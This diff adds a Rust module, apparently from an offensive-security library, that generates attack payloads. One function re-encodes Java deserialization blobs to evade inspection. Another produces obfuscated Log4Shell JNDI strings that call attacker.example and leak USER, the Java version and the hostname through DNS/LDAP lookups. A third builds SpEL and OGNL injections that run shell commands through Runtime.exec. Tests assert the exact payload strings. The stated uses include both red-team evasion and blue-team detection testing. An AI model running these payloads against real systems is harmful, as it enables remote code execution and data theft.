@@ -0,0 +1,547 @@
+use crate::deflate::gzip;
+use crate::transformations::dedup_preserving_order;
+use crate::transformations::encoding::{
+    base64_encode_bytes, base64url_decode, base64url_encode, url_encode,
+};
+
+/// `ObjectOutputStream` stream magic and version, `rO0AB` in base64.
+const JAVA_STREAM_HEADER: [u8; 4] = [0xac, 0xed, 0x00, 0x05];
+
+/// Line length of MIME base64, accepted by `Base64.getMimeDecoder()`.
+const MIME_LINE_LEN: usize = 76;
+
+/// Splits `text` into `len`-character chunks joined by `separator`.
+fn chunked(text: &str, len: usize, separator: &str) -> String {
+    text.as_bytes()
+        .chunks(len)
+        .map(|chunk| String::from_utf8_lossy(chunk).into_owned())
+        .collect::<Vec<_>>()
+        .join(separator)
+}
+
+/// Generates encoding and segmentation variants of a Java serialized object.
+///
+/// `b64` is a base64 (standard or URL-safe, padding and whitespace optional)
+/// `ObjectOutputStream` blob, recognized by its `rO0AB` header; anything
+/// else yields an empty list. The blob is never modified, only re-encoded,
+/// so a payload that works in one form can be replayed in each of these to
+/// find where inspection stops decoding:
+///
+/// - Padded and unpadded standard and URL-safe base64, and percent-encoded
+/// - MIME line wrapping, and 4-character chunks separated by newlines or
+///   spaces, which break the `rO0AB` signature across a boundary
+/// - Separately encoded segments (`rO0=AAV0...`) with padding mid-string
+/// - Gzip then base64 (`H4sI...`), standard and URL-safe
+/// - Double base64, and raw hex (`aced0005...`)
+///
+/// This does not generate gadget chains; bring the blob from a tool such as
+/// ysoserial.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Deliver a deserialization payload past signature-based filters
+/// - **Blue Team**: Verify detection decodes every encoding an endpoint accepts
+///
+/// # Examples
+///
+/// ```
+/// use redstr::java_serialized_mutate;
+///
+/// let variants = java_serialized_mutate("rO0ABXQAA2FiYw==");
+/// assert!(variants.contains(&"rO0ABXQAA2FiYw".to_string()));
+/// assert!(variants.contains(&"aced0005740003616263".to_string()));
+/// assert!(variants.iter().any(|v| v.starts_with("H4sI")));
+///
+/// assert!(java_serialized_mutate("not serialized").is_empty());
+/// ```
+pub fn java_serialized_mutate(b64: &str) -> Vec<String> {
+    let compact: String = b64.chars().filter(|c| !c.is_ascii_whitespace()).collect();
+    let Some(blob) = base64url_decode(&compact) else {
+        return Vec::new();
+    };
+    if !blob.starts_with(&JAVA_STREAM_HEADER) {
+        return Vec::new();
+    }
+
+    let standard = base64_encode_bytes(&blob);
+    let url_safe = base64url_encode(&blob);
+    let gzipped = gzip(&blob);
+    let split = JAVA_STREAM_HEADER.len() / 2;
+
+    let variants = vec![
+        standard.clone(),
+        standard.trim_end_matches('=').to_string(),
+        url_safe.clone(),
+        format!(
+            "{}{}",
+            url_safe,
+            "=".repeat(standard.len() - url_safe.len())
+        ),
+        url_encode(&standard),
+        chunked(&standard, MIME_LINE_LEN, "\r\n"),
+        chunked(&standard, 4, "\n"),
+        chunked(&standard, 4, " "),
+        format!(
+            "{}{}",
+            base64_encode_bytes(&blob[..split]),
+            base64_encode_bytes(&blob[split..])
+        ),
+        base64_encode_bytes(&gzipped),
+        base64url_encode(&gzipped),
+        base64_encode_bytes(standard.as_bytes()),
+        blob.iter().map(|b| format!("{:02x}", b)).collect(),
+    ];
+
+    dedup_preserving_order(variants)
+}
+
+/// JNDI providers tried when the callback has no scheme.
+const JNDI_PROTOCOLS: &[&str] = &["ldap", "ldaps", "rmi", "dns", "iiop", "corba"];
+
+/// Spells each character of `word` with a lookup that evaluates to it,
+/// e.g. `spell("jndi", |c| format!("${{lower:{}}}", c))`.
+fn spell(word: &str, lookup: impl Fn(char) -> String) -> String {
+    word.chars().map(lookup).collect()
+}
+
+/// Generates Log4Shell-style `${jndi:...}` strings with documented obfuscations.
+///
+/// `callback` is either a full URL (`ldap://attacker.example/a`) or a bare
+/// host and path, which is expanded across the `ldap`, `ldaps`, `rmi`, `dns`,
+/// `iiop` and `corba` providers. Using the first protocol, the variants cover:
+///
+/// - Case folding, since Log4j lowercases lookup prefixes (`${JnDi:...}`)
+/// - `${lower:j}`/`${upper:j}` lookups, nested `${lower:${lower:jndi}}`
+/// - Default values of missing lookups: `${::-j}`, `${env:NaN:-j}`,
+///   `${sys:NaN:-j}`, and `${date:'j'}`, applied to the keyword and protocol
+/// - Exfiltration through the hostname (`${env:USER}`, `${sys:java.version}`,
+///   `${hostName}`) and the `127.0.0.1#host` bypass of 2.15.0 (CVE-2021-45046)
+/// - URL-encoded and JSON-escaped `${`
+///
+/// # Use Cases
+///
+/// - **Red Team**: Find Log4j lookups reachable past WAF rules on `${jndi:`
+/// - **Blue Team**: Validate detection rules and confirm patched systems stay silent
+///
+/// # Examples
+///
+/// ```
+/// use redstr::jndi_variations;
+///
+/// let payloads = jndi_variations("ldap://attacker.example/a");
+/// assert_eq!(payloads[0], "${jndi:ldap://attacker.example/a}");
+/// assert!(payloads.contains(&"${${lower:j}ndi:ldap://attacker.example/a}".to_string()));
+/// assert!(payloads.contains(&"${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/a}".to_string()));
+///
+/// // A bare host is tried with every provider
+/// assert!(jndi_variations("attacker.example/a").contains(&"${jndi:rmi://attacker.example/a}".to_string()));
+/// ```
+pub fn jndi_variations(callback: &str) -> Vec<String> {
+    let (protocols, target) = match callback.split_once("://") {
+        Some((scheme, rest)) => (vec![scheme], rest),
+        None => (JNDI_PROTOCOLS.to_vec(), callback),
+    };
+    let protocol = protocols[0];
+    let (host, path) = match target.find('/') {
+        Some(slash) => target.split_at(slash),
+        None => (target, ""),
+    };
+    let url = format!("{}://{}", protocol, target);
+
+    let mut payloads: Vec<String> = protocols
+        .iter()
+        .map(|p| format!("${{jndi:{}://{}}}", p, target))
+        .collect();
+    payloads.extend([
+        // Case folding and case lookups
+        format!("${{JNDI:{}}}", url),
+        format!("${{JnDi:{}}}", url),
+        format!("${{${{lower:j}}ndi:{}}}", url),
+        format!("${{${{upper:j}}ndi:{}}}", url),
+        format!(
+            "${{{}:{}}}",
+            spell("jndi", |c| format!("${{lower:{}}}", c)),
+            url
+        ),
+        format!("${{${{lower:${{lower:jndi}}}}:{}}}", url),
+        // Default values of missing lookups
+        format!("${{${{::-j}}ndi:{}}}", url),
+        format!(
+            "${{{}:{}}}",
+            spell("jndi", |c| format!("${{::-{}}}", c)),
+            url
+        ),
+        format!("${{${{env:NaN:-j}}ndi:{}}}", url),
+        format!("${{${{sys:NaN:-j}}ndi:{}}}", url),
+        format!("${{${{date:'j'}}ndi:{}}}", url),
+        format!(
+            "${{${{env:NaN:-j}}ndi${{env:NaN:-:}}{}${{env:NaN:-:}}//{}}}",
+            spell(protocol, |c| format!("${{env:NaN:-{}}}", c)),
+            target
+        ),
+        format!(
+            "${{jndi:{}://{}}}",
+            spell(protocol, |c| format!("${{lower:{}}}", c)),
+            target
+        ),
+        format!("${{${{::-${{::-$${{::-j}}}}}}ndi:{}}}", url),
+        // Exfiltration through the looked-up hostname
+        format!("${{jndi:{}://${{env:USER}}.{}{}}}", protocol, host, path),
+        format!(
+            "${{jndi:{}://${{sys:java.version}}.{}{}}}",
+            protocol, host, path
+        ),
+        format!("${{jndi:{}://${{hostName}}.{}{}}}", protocol, host, path),
+        format!("${{jndi:{}://127.0.0.1#{}{}}}", protocol, host, path),
+        // Transport encodings
+        format!("%24%7Bjndi:{}%7D", url),
+        format!("\\u0024{{jndi:{}}}", url),
+    ]);
+
+    dedup_preserving_order(payloads)
+}
+
+/// Java expression language targeted by [`expression_injection`].
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ElDialect {
+    /// Spring Expression Language: `T(type)` static access, `#{...}`/`${...}`.
+    Spel,
+    /// Object-Graph Navigation Language (Struts 2): `@class@method` static calls.
+    Ognl,
+}
+
+/// Spells `text` as a chain of `Character.toString(code)` calls joined with
+/// `concat`, so the command contains no string literal or quote.
+fn char_concat(text: &str, to_string: &str) -> String {
+    let mut chars = text.chars().map(|c| format!("{}({})", to_string, c as u32));
+    let first = chars.next().unwrap_or_else(|| format!("{}(32)", to_string));
+    chars.fold(first, |acc, c| format!("{}.concat({})", acc, c))
+}
+
+fn spel_payloads(cmd: &str) -> Vec<String> {
+    // SpEL escapes a quote inside a string literal by doubling it
+    let quoted = format!("'{}'", cmd.replace('\'', "''"));
+    let exec = format!("T(java.lang.Runtime).getRuntime().exec({})", quoted);
+    let from_chars = char_concat(cmd, "T(java.lang.Character).toString");
+    vec![
+        format!("${{{}}}", exec),
+        format!("#{{{}}}", exec),
+        exec.clone(),
+        format!(
+            "#{{new java.lang.ProcessBuilder(new String[]{{'sh','-c',{}}}).start()}}",
+            quoted
+        ),
+        format!(
+            "${{new java.util.Scanner({}.getInputStream()).useDelimiter('\\A').next()}}",
+            exec
+        ),
+        format!(
+            "${{T(org.apache.commons.io.IOUtils).toString({}.getInputStream())}}",
+            exec
+        ),
+        // Encoding variants: no quotes, no T(), URL-encoded
+        format!(
+            "${{T(java.lang.Runtime).getRuntime().exec({})}}",
+            from_chars
+        ),
+        format!(
+            "${{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec({})}}",
+            quoted
+        ),
+        format!("%24%7B{}%7D", url_encode(&exec)),
+    ]
+}
+
+fn ognl_payloads(cmd: &str) -> Vec<String> {
+    let quoted = format!("'{}'", cmd.replace('\\', "\\\\").replace('\'', "\\'"));
+    let exec = format!("@java.lang.Runtime@getRuntime().exec({})", quoted);
+    let unicode: String = cmd
+        .chars()
+        .map(|c| format!("\\u{:04x}", c as u32))
+        .collect();
+    let from_chars = char_concat(cmd, "@java.lang.Character@toString");
+    vec![
+        format!("%{{{}}}", exec),
+        format!("${{{}}}", exec),
+        format!(
+            "(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec({}))",
+            quoted
+        ),
+        format!(
+            "%{{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).({})}}",
+            exec
+        ),
+        format!(
+            "%{{(#p=new java.lang.ProcessBuilder({{'sh','-c',{}}})).(#p.redirectErrorStream(true)).(#p.start())}}",
+            quoted
+        ),
+        format!(
+            "%{{(#is={}.getInputStream()).(@org.apache.commons.io.IOUtils@toString(#is))}}",
+            exec
+        ),
+        // Encoding variants: unicode escapes, no quotes, URL-encoded
+        format!("%{{@java.lang.Runtime@getRuntime().exec('{}')}}", unicode),
+        format!("%{{@java.lang.Runtime@getRuntime().exec({})}}", from_chars),
+        format!("%25%7B{}%7D", url_encode(&exec)),
+    ]
+}
+
+/// Generates expression language injection payloads for Java-stack targets.
+///
+/// Complements the SSTI helpers for Spring and Struts applications. Every
+/// payload runs `cmd` through `Runtime.exec` or `ProcessBuilder`:
+///
+/// - [`ElDialect::Spel`]: `T(java.lang.Runtime)` invocation in `${...}`,
+///   `#{...}` and bare form, `ProcessBuilder`, output capture through
+///   `Scanner` or commons-io, and variants without quotes
+///   (`Character.toString` chains), without `T(` (reflection) and URL-encoded.
+/// - [`ElDialect::Ognl`]: `@java.lang.Runtime@getRuntime()` static calls in
+///   `%{...}` and `${...}`, variable chains, the Struts `_memberAccess`
+///   reset, `ProcessBuilder`, output capture, and unicode-escaped,
+///   quote-free and URL-encoded variants.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Reach command execution through SpEL or OGNL evaluation
+/// - **Blue Team**: Verify expression evaluation of user input is disabled or sandboxed
+///
+/// # Examples
+///
+/// ```
+/// use redstr::{expression_injection, ElDialect};
+///
+/// let spel = expression_injection(ElDialect::Spel, "id");
+/// assert_eq!(spel[0], "${T(java.lang.Runtime).getRuntime().exec('id')}");
+///
+/// let ognl = expression_injection(ElDialect::Ognl, "id");
+/// assert_eq!(ognl[0], "%{@java.lang.Runtime@getRuntime().exec('id')}");
+/// ```
+pub fn expression_injection(dialect: ElDialect, cmd: &str) -> Vec<String> {
+    let payloads = match dialect {
+        ElDialect::Spel => spel_payloads(cmd),
+        ElDialect::Ognl => ognl_payloads(cmd),
+    };
+
+    dedup_preserving_order(payloads)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::deflate::inflate;
+    use std::collections::HashSet;
+
+    /// `TC_STRING "abc"` after the stream header.
+    const BLOB_B64: &str = "rO0ABXQAA2FiYw==";
+
+    #[test]
+    fn test_java_serialized_mutate_base64_forms() {
+        let variants = java_serialized_mutate(BLOB_B64);
+        assert_eq!(variants[0], BLOB_B64);
+        assert!(variants.contains(&"rO0ABXQAA2FiYw".to_string()));
+        assert!(variants.contains(&"rO0ABXQAA2FiYw%3D%3D".to_string()));
+        assert!(variants.contains(&"rO0A\nBXQA\nA2Fi\nYw==".to_string()));
+        assert!(variants.contains(&"rO0A BXQA A2Fi Yw==".to_string()));
+        assert!(variants.contains(&"rO0=AAV0AANhYmM=".to_string()));
+        assert!(variants.contains(&"aced0005740003616263".to_string()));
+    }
+
+    #[test]
+    fn test_java_serialized_mutate_url_safe() {
+        // TC_STRING of bytes that encode to '+' and '/'
+        let blob = [0xac, 0xed, 0x00, 0x05, 0x74, 0x00, 0x03, 0xfb, 0xff, 0xfe];
+        let variants = java_serialized_mutate(&base64_encode_bytes(&blob));
+        assert!(variants.iter().any(|v| v.contains('+') || v.contains('/')));
+        assert!(variants.contains(&base64url_encode(&blob)));
+        for variant in &variants[..4] {
+            assert_eq!(base64url_decode(variant).unwrap(), blob);
+        }
+    }
+
+    #[test]
+    fn test_java_serialized_mutate_gzip() {
+        let variants = java_serialized_mutate(BLOB_B64);
+        let gzipped = variants.iter().find(|v| v.starts_with("H4sI")).unwrap();
+        let member = base64url_decode(gzipped).unwrap();
+        let body = &member[10..member.len() - 8];
+        assert_eq!(
+            base64_encode_bytes(&inflate(body, usize::MAX).unwrap()),
+            BLOB_B64.to_string()
+        );
+    }
+
+    #[test]
+    fn test_java_serialized_mutate_mime_wrapping() {
+        let blob: Vec<u8> = JAVA_STREAM_HEADER.iter().copied().chain(0..120).collect();
+        let variants = java_serialized_mutate(&base64_encode_bytes(&blob));
+        let wrapped = variants.iter().find(|v| v.contains("\r\n")).unwrap();
+        assert!(wrapped
+            .split("\r\n")
+            .all(|line| line.len() <= MIME_LINE_LEN));
+        assert_eq!(wrapped.split("\r\n").next().unwrap().len(), MIME_LINE_LEN);
+    }
+
+    #[test]
+    fn test_java_serialized_mutate_accepts_loose_input() {
+        let expected = java_serialized_mutate(BLOB_B64);
+        assert_eq!(java_serialized_mutate("rO0ABXQA\nA2FiYw"), expected);
+        assert_eq!(java_serialized_mutate("  rO0ABXQAA2FiYw==  "), expected);
+    }
+
+    #[test]
+    fn test_java_serialized_mutate_rejects_other_input() {
+        assert!(java_serialized_mutate("").is_empty());
+        assert!(java_serialized_mutate("aGVsbG8=").is_empty());
+        assert!(java_serialized_mutate("not base64!").is_empty());
+    }
+
+    #[test]
+    fn test_java_serialized_mutate_unique() {
+        let variants = java_serialized_mutate(BLOB_B64);
+        let unique: HashSet<&String> = variants.iter().collect();
+        assert_eq!(unique.len(), variants.len());
+    }
+
+    const CALLBACK: &str = "ldap://attacker.example/a";
+
+    #[test]
+    fn test_jndi_variations_plain() {
+        let payloads = jndi_variations(CALLBACK);
+        assert_eq!(payloads[0], "${jndi:ldap://attacker.example/a}");
+        assert!(payloads.iter().all(|p| p.contains("attacker.example")));
+        assert!(!payloads.iter().any(|p| p.starts_with("${jndi:rmi:")));
+    }
+
+    #[test]
+    fn test_jndi_variations_bare_host_uses_every_protocol() {
+        let payloads = jndi_variations("attacker.example:1389/x");
+        for protocol in JNDI_PROTOCOLS {
+            let expected = format!("${{jndi:{}://attacker.example:1389/x}}", protocol);
+            assert!(payloads.contains(&expected), "{}", expected);
+        }
+        assert!(
+            payloads.contains(&"${jndi:ldap://${env:USER}.attacker.example:1389/x}".to_string())
+        );
+    }
+
+    #[test]
+    fn test_jndi_variations_lookups() {
+        let payloads = jndi_variations(CALLBACK);
+        for expected in [
+            "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://attacker.example/a}",
+            "${${lower:${lower:jndi}}:ldap://attacker.example/a}",
+            "${${env:NaN:-j}ndi:ldap://attacker.example/a}",
+            "${${date:'j'}ndi:ldap://attacker.example/a}",
+            "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://attacker.example/a}",
+            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}${env:NaN:-d}${env:NaN:-a}${env:NaN:-p}${env:NaN:-:}//attacker.example/a}",
+            "${${::-${::-$${::-j}}}ndi:ldap://attacker.example/a}",
+        ] {
+            assert!(payloads.contains(&expected.to_string()), "{}", expected);
+        }
+    }
+
+    #[test]
+    fn test_jndi_variations_exfiltration() {
+        let payloads = jndi_variations(CALLBACK);
+        assert!(
+            payloads.contains(&"${jndi:ldap://${sys:java.version}.attacker.example/a}".to_string())
+        );
+        assert!(payloads.contains(&"${jndi:ldap://127.0.0.1#attacker.example/a}".to_string()));
+
+        let no_path = jndi_variations("dns://attacker.example");
+        assert!(no_path.contains(&"${jndi:dns://${hostName}.attacker.example}".to_string()));
+    }
+
+    #[test]
+    fn test_jndi_variations_balanced_and_unique() {
+        let payloads = jndi_variations(CALLBACK);
+        for payload in payloads.iter().filter(|p| p.starts_with('$')) {
+            assert_eq!(
+                payload.matches('{').count(),
+                payload.matches('}').count(),
+                "{}",
+                payload
+            );
+        }
+        let unique: HashSet<&String> = payloads.iter().collect();
+        assert_eq!(unique.len(), payloads.len());
+    }
+
+    #[test]
+    fn test_expression_injection_spel() {
+        let payloads = expression_injection(ElDialect::Spel, "id");
+        assert!(payloads.contains(&"#{T(java.lang.Runtime).getRuntime().exec('id')}".to_string()));
+        assert!(payloads.contains(&"T(java.lang.Runtime).getRuntime().exec('id')".to_string()));
+        assert!(payloads.contains(
+            &"#{new java.lang.ProcessBuilder(new String[]{'sh','-c','id'}).start()}".to_string()
+        ));
+        assert!(payloads.iter().any(|p| p.contains("getInputStream()")));
+    }
+
+    #[test]
+    fn test_expression_injection_spel_encodings() {
+        let payloads = expression_injection(ElDialect::Spel, "id");
+        assert!(payloads.contains(
+            &"${T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))}"
+                .to_string()
+        ));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("''.getClass().forName(") && !p.contains("T(")));
+        assert!(payloads
+            .iter()
+            .any(|p| p.starts_with("%24%7BT%28java.lang.Runtime%29")));
+    }
+
+    #[test]
+    fn test_expression_injection_ognl() {
+        let payloads = expression_injection(ElDialect::Ognl, "id");
+        assert!(payloads.contains(&"${@java.lang.Runtime@getRuntime().exec('id')}".to_string()));
+        assert!(payloads
+            .contains(&"(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))".to_string()));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS")));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("ProcessBuilder({'sh','-c','id'})")));
+    }
+
+    #[test]
+    fn test_expression_injection_ognl_encodings() {
+        let payloads = expression_injection(ElDialect::Ognl, "id");
+        assert!(payloads
+            .contains(&"%{@java.lang.Runtime@getRuntime().exec('\\u0069\\u0064')}".to_string()));
+        assert!(payloads.contains(
+            &"%{@java.lang.Runtime@getRuntime().exec(@java.lang.Character@toString(105).concat(@java.lang.Character@toString(100)))}"
+                .to_string()
+        ));
+        assert!(payloads
+            .iter()
+            .any(|p| p.starts_with("%25%7B%40java.lang.Runtime%40")));
+    }
+
+    #[test]
+    fn test_expression_injection_escapes_quotes() {
+        let spel = expression_injection(ElDialect::Spel, "echo 'x'");
+        assert_eq!(
+            spel[0],
+            "${T(java.lang.Runtime).getRuntime().exec('echo ''x''')}"
+        );
+        let ognl = expression_injection(ElDialect::Ognl, "echo 'x'");
+        assert_eq!(
+            ognl[0],
+            "%{@java.lang.Runtime@getRuntime().exec('echo \\'x\\'')}"
+        );
+    }
+
+    #[test]
+    fn test_expression_injection_unique() {
+        for dialect in [ElDialect::Spel, ElDialect::Ognl] {
+            let payloads = expression_injection(dialect, "whoami");
+            let unique: HashSet<&String> = payloads.iter().collect();
+            assert_eq!(unique.len(), payloads.len());
+            assert!(payloads.len() >= 9);
+        }
+    }
+}